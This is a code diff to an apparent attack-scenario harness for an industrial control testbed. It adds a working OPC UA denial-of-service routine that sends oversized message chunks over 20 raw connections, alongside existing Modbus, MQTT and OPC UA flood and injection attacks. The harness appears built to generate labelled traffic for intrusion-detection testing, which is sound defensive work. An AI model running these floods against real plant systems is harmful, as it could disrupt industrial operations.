@@ -69,6 +69,9 @@ Then the attacks, one after another (``ATTACKS`` in order; fractions in ``TIMELI
 12. ``mqtt_connect_flood`` (bot, a second attacker host): 300 MQTT
     connections, each CONNECT with a client id of its own, CONNACK,
     DISCONNECT (raw sockets).
+13. ``opcua_oversized_chunks``: rogue opens 20 raw connections: Hello asking
+    for 64 KiB buffers, then a MSG chunk of 256 KiB (past what was
+    negotiated); asyncua drops each.
 
 Windows of different roles may overlap (the rogue's sequence overruns its
 timeline on a loaded machine); the harness attributes evidence by window.
@@ -146,6 +149,8 @@ QUERY_FLOOD_REQUESTS = 4000
 UNIT_SWEEP_IDS = range(1, 248)
 """Every unit id a Modbus/TCP gateway may route to (0 is broadcast, 248-255 reserved)."""
 CONNECT_FLOOD_CLIENTS = 300
+OVERSIZED_CONNECTIONS = 20
+OVERSIZED_CHUNK = 1 << 18
 HMI_INJECTION_UNITS = (2, 3, 4)
 MULTICAST_GROUP = "239.192.0.1"
 """The historian joins it (as a host listening for a vendor's discovery would): its IGMP report is not captured."""
@@ -173,10 +178,11 @@ TIMELINE = {
     "hmi_injection": 0.75,      # more than write_burst's window after the last benign set-point
     "modbus_unit_sweep": 0.88,
     "mqtt_connect_flood": 0.90,
+    "opcua_oversized_chunks": 0.92,
 }
 ATTACKS = ("sensor_flood", "modbus_injection", "rtu_read_sweep", "modbus_query_flood", "mqtt_publish_flood", "mqtt_client_flood",
            "mqtt_malformed_flood", "opcua_connection_flood", "opcua_session_flood", "opcua_request_flood",
-           "hmi_injection", "modbus_unit_sweep", "mqtt_connect_flood")
+           "hmi_injection", "modbus_unit_sweep", "mqtt_connect_flood", "opcua_oversized_chunks")
 
 log = logging.getLogger("heldout-scenarios")
 
@@ -544,6 +550,28 @@ def mqtt_connect_flood(args) -> None:
             s.sendall(b"\xe0\x00")
 
 
+def opcua_oversized_chunks(args) -> None:
+    """Hello (asking for 64 KiB buffers), then a MSG chunk of 256 KiB on each of ``OVERSIZED_CONNECTIONS``
+    connections: chunks past the buffer the server acknowledged (OPC UA Part 6 §7.1.2.3), the resource
+    exhaustion the OPC UA dataset's DoS family includes; asyncua drops each connection."""
+    url = OPCUA_URL.encode()
+    hello_body = struct.pack("<IIIIIi", 0, 65536, 65536, 0, 0, len(url)) + url
+    hello = b"HELF" + struct.pack("<I", 8 + len(hello_body)) + hello_body
+    chunk = OVERSIZED_CHUNK
+    msg = b"MSGF" + struct.pack("<II", chunk, 1) + bytes(range(256)) * ((chunk - 12) // 256) + bytes((chunk - 12) % 256)
+    for _ in range(OVERSIZED_CONNECTIONS):
+        with socket.create_connection((IP["opcua"], OPCUA_PORT), timeout=2) as s:
+            s.sendall(hello)
+            s.recv(64)
+            try:
+                s.sendall(msg)
+                s.settimeout(0.2)
+                while s.recv(4096):
+                    pass
+            except (socket.timeout, ConnectionResetError, BrokenPipeError):
+                pass
+
+
 def role_bot(args) -> None:
     plant.wait_until(at(args, "mqtt_connect_flood"))
     with window("mqtt_connect_flood"):
@@ -557,7 +585,8 @@ def role_rogue(args) -> None:
                      ("mqtt_publish_flood", mqtt_publish_flood), ("mqtt_client_flood", mqtt_client_flood),
                      ("mqtt_malformed_flood", mqtt_malformed_flood),
                      ("opcua_connection_flood", opcua_connection_flood), ("opcua_session_flood", opcua_session_flood),
-                     ("opcua_request_flood", opcua_request_flood), ("modbus_unit_sweep", modbus_unit_sweep)):
+                     ("opcua_request_flood", opcua_request_flood), ("modbus_unit_sweep", modbus_unit_sweep),
+                     ("opcua_oversized_chunks", opcua_oversized_chunks)):
         plant.wait_until(at(args, name))
         with window(name):
             r = fn(args)
